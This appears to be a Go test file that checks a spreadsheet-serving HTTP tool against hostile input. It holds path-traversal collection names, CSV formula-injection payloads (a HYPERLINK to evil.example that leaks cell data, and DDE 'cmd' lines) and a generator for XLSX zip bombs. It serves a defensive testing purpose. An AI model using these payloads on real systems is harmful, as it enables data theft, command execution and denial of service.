package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// Hostile input end to end (issue 8, item 2), through a real server on a real folder.

// hostileFolder copies samples/ into root/data and returns both: what happens outside data is
// watched too.
func hostileFolder(t *testing.T) (root, dir string) {
	t.Helper()
	root = t.TempDir()
	dir = filepath.Join(root, "data")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"products.csv", "stores.xlsx"} {
		b, err := os.ReadFile(filepath.Join("../../samples", name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root, dir
}

// treeOf lists every path under root except the state dir sheetsync keeps in dir.
func treeOf(t *testing.T, root string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		if d.IsDir() && strings.HasPrefix(d.Name(), ".sheetsync") {
			return filepath.SkipDir
		}
		out = append(out, rel)
		return nil
	})
	slices.Sort(out)
	return out
}

// TestHostileCollectionNames: creating or writing collections named with .., /, \, NUL,
// unicode tricks or a very long name, through v3 and legacy, is a 4xx in the protocol's shape
// and no file appears anywhere: not outside --dir, not inside it.
func TestHostileCollectionNames(t *testing.T) {
	root, dir := hostileFolder(t)
	m := MustRunMain(t, dir, nil)
	url := m.Server.URL()
	before := treeOf(t, root)
	names := []string{
		"..", "../evil", "../../evil", "a/b", "/tmp/evil", `..\evil`, `a\b`, "a\x00b", "evil\x00.csv",
		"\u202Eexcel.csv", "\u202Evsc", "prоducts", // Cyrillic о
		"ｐroducts", "products\u200b", ".", "evil.csv", "~evil", strings.Repeat("a", 300), strings.Repeat("../", 2000),
	}
	for _, name := range names {
		q := fmt.Sprintf("%q", name)
		for _, c := range []struct{ path, body string }{
			{"/v3/collections/create", `{"collection":{"id":` + q + `,"fields":[{"key":"x","type":"TEXT"}]}}`},
			{"/v3/items/insert", `{"collectionId":` + q + `,"items":[{"x":"y"}]}`},
			{"/v3/items/query", `{"collectionId":` + q + `,"query":{}}`},
			{"/v3/collections/delete", `{"collectionId":` + q + `}`},
			{"/schemas/create", `{"collectionName":` + q + `,"requestContext":{"role":"OWNER"}}`},
			{"/data/insert", `{"collectionName":` + q + `,"item":{"x":"y"},"requestContext":{"role":"OWNER"}}`},
			{"/data/find", `{"collectionName":` + q + `}`},
			{"/schemas/column/add", `{"collectionName":` + q + `,"column":{"name":"z","type":"text"},"requestContext":{"role":"OWNER"}}`},
		} {
			code, out := post(t, url+c.path, c.body)
			msg := out["errorMessage"]
			if !strings.HasPrefix(c.path, "/v3/") {
				msg = out["message"]
			}
			if code < 400 || code >= 500 || msg == nil || msg == "" {
				t.Errorf("%s %q: %d %v, want a 4xx with a message", c.path, name, code, out)
			}
		}
	}
	if after := treeOf(t, root); !slices.Equal(before, after) {
		t.Errorf("files changed:\nbefore %q\nafter  %q", before, after)
	}
	if code, _ := post(t, url+"/v3/items/count", `{"collectionId":"products"}`); code != 200 {
		t.Fatalf("server after hostile names: %d", code)
	}
}

// TestHostileFormulaInjection: texts a spreadsheet would run as formulas, written through v3
// into a CSV file and through legacy into a workbook, are stored as text in both files and read
// back unchanged.
func TestHostileFormulaInjection(t *testing.T) {
	_, dir := hostileFolder(t)
	m := MustRunMain(t, dir, nil)
	url := m.Server.URL()
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, "=1+2", "'=already quoted",
	}
	for i, p := range payloads {
		q := fmt.Sprintf("%q", p)
		if code, out := post(t, url+"/v3/items/insert", fmt.Sprintf(`{"collectionId":"products","items":[{"_id":"f%d","name":%s,"description":%s}]}`, i, q, q)); code != 200 {
			t.Fatalf("v3 insert %q: %d %v", p, code, out)
		}
		if code, out := post(t, url+"/data/insert", fmt.Sprintf(`{"collectionName":"stores-Staff","item":{"_id":"f%d","name":%s},"requestContext":{"role":"OWNER"}}`, i, q)); code != 200 {
			t.Fatalf("legacy insert %q: %d %v", p, code, out)
		}
	}
	for i, p := range payloads {
		code, out := post(t, url+"/v3/items/query", fmt.Sprintf(`{"collectionId":"products","query":{"filter":{"_id":"f%d"}}}`, i))
		if items, _ := out["items"].([]any); code != 200 || len(items) != 1 || items[0].(map[string]any)["name"] != p {
			t.Errorf("read back %q: %d %v", p, code, out)
		}
	}
	if err := m.Close(); err != nil {
		t.Fatal(err)
	}
	// CSV: every formula-like cell starts with the apostrophe that keeps it text
	b, err := os.ReadFile(filepath.Join(dir, "products.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		for _, field := range strings.Split(line, ",") {
			f := strings.TrimLeft(field, `"`)
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) && !isNumberLike(f) {
				t.Errorf("products.csv has a cell a spreadsheet would run: %q in line %q", field, line)
			}
		}
	}
	// XLSX: text cells, never formulas
	book, err := excelize.OpenFile(filepath.Join(dir, "stores.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	rows, err := book.GetRows("Staff")
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for r, row := range rows {
		for c, v := range row {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if f, _ := book.GetCellFormula("Staff", ref); f != "" {
				t.Errorf("Staff!%s is the formula %q", ref, f)
			}
			if slices.Contains(payloads, v) {
				found++
			}
		}
	}
	if found != len(payloads) {
		t.Errorf("found %d of the %d payloads as text in Staff", found, len(payloads))
	}
}

func isNumberLike(s string) bool {
	for _, c := range s {
		if !strings.ContainsRune("0123456789.-+eE", c) {
			return false
		}
	}
	return true
}

// heapAfterGC is the live heap once the garbage is collected.
func heapAfterGC() uint64 {
	var ms runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms)
	return ms.HeapAlloc
}

// TestHostileHugeCSVField: a CSV whose one field is 100 MB is served (or reported) without
// the server falling over, and memory stays within a few times the file.
func TestHostileHugeCSVField(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a 100 MB file")
	}
	_, dir := hostileFolder(t)
	f, err := os.Create(filepath.Join(dir, "huge.csv"))
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprint(f, "id,body\nh1,\"")
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	for range 100 {
		f.Write(chunk)
	}
	fmt.Fprint(f, "\"\nh2,small\n")
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	base := heapAfterGC()
	m := MustRunMain(t, dir, nil)
	if grown := heapAfterGC() - min(base, heapAfterGC()); grown > 600<<20 {
		t.Errorf("serving a 100 MB field holds %d MiB", grown>>20)
	}
	code, out := post(t, m.Server.URL()+"/v3/items/count", `{"collectionId":"huge"}`)
	if code == 200 {
		if out["totalCount"] != float64(2) {
			t.Errorf("huge: %v", out)
		}
	} else if len(m.Folder.Problems()) == 0 {
		t.Errorf("huge.csv neither served nor reported: %d %v", code, out)
	}
	if code, _ := post(t, m.Server.URL()+"/v3/items/count", `{"collectionId":"products"}`); code != 200 {
		t.Fatalf("server after a 100 MB field: %d", code)
	}
}

// xlsxParts are the parts of a minimal workbook with one sheet, "Bomb".
var xlsxParts = map[string]string{
	"[Content_Types].xml":        `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`,
	"_rels/.rels":                `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
	"xl/workbook.xml":            `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Bomb" sheetId="1" r:id="rId1"/></sheets></workbook>`,
	"xl/_rels/workbook.xml.rels": `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
	"xl/worksheets/sheet1.xml":   `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row></sheetData></worksheet>`,
	"xl/sharedStrings.xml":       `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>`,
}

// writeBomb writes a workbook whose part big inflates from a stream of head, n repeats of
// unit and tail. With lie, the zip header declares the part 1 KiB, as a crafted bomb does.
func writeBomb(t *testing.T, path, big, head, unit, tail string, n int, lie bool) {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range xlsxParts {
		if name == big {
			continue
		}
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, body)
	}
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestCompression)
	sum := crc32.NewIEEE()
	out := io.MultiWriter(fw, sum)
	io.WriteString(out, head)
	per := max(1, (64<<10)/len(unit))
	u := []byte(strings.Repeat(unit, per))
	for i := 0; i < n; i += per {
		out.Write(u)
	}
	io.WriteString(out, tail)
	fw.Close()
	size := uint64(len(head)+len(tail)) + uint64(n)*uint64(len(unit))
	if lie {
		size = 1024
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: big, Method: zip.Deflate, CompressedSize64: uint64(comp.Len()), UncompressedSize64: size, CRC32: sum.Sum32()})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(comp.Bytes())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestHostileXLSXBombs: a small workbook whose sheet or shared-string table inflates to
// gigabytes, whether its zip header says so or lies, is refused with a problem naming the
// limit; memory stays bounded and the server serves the rest.
func TestHostileXLSXBombs(t *testing.T) {
	if testing.Short() {
		t.Skip("inflates gigabytes")
	}
	_, dir := hostileFolder(t)
	const sheetHead = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`
	const sheetTail = `</t></is></c></row></sheetData></worksheet>`
	const sstHead = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`
	writeBomb(t, filepath.Join(dir, "bomb.xlsx"), "xl/worksheets/sheet1.xml", sheetHead, "a", sheetTail, 1<<30, false)
	writeBomb(t, filepath.Join(dir, "liar.xlsx"), "xl/worksheets/sheet1.xml", sheetHead, "a", sheetTail, 1<<30, true)
	writeBomb(t, filepath.Join(dir, "strings.xlsx"), "xl/sharedStrings.xml", sstHead, "<si><t>a</t></si>", "</sst>", 20_000_000, true)
	writeBomb(t, filepath.Join(dir, "counted.xlsx"), "xl/sharedStrings.xml", sstHead[:len(sstHead)-1]+` uniqueCount="2000000000">`, "<si><t>a</t></si>", "</sst>", 10, false)
	for _, name := range []string{"bomb.xlsx", "liar.xlsx", "strings.xlsx", "counted.xlsx"} {
		if st, err := os.Stat(filepath.Join(dir, name)); err != nil || st.Size() > 32<<20 {
			t.Fatalf("%s: %v, %d bytes", name, err, st.Size())
		}
	}
	base := heapAfterGC()
	m := MustRunMain(t, dir, nil)
	if grown := heapAfterGC() - min(base, heapAfterGC()); grown > 256<<20 {
		t.Errorf("the bombs left %d MiB on the heap", grown>>20)
	}
	problems := fmt.Sprint(m.Folder.Problems())
	for _, want := range []string{"bomb.xlsx", "ratio over 1000:1"} {
		if !strings.Contains(problems, want) {
			t.Errorf("problems do not name %q: %s", want, problems)
		}
	}
	for _, coll := range []string{"bomb", "liar", "strings", "counted"} {
		if code, out := post(t, m.Server.URL()+"/v3/items/count", `{"collectionId":"`+coll+`"}`); code != 404 {
			t.Errorf("%s: %d %v, want 404 (not served)", coll, code, out)
		}
	}
	if code, _ := post(t, m.Server.URL()+"/v3/items/count", `{"collectionId":"products"}`); code != 200 {
		t.Fatalf("server after the bombs: %d", code)
	}
}
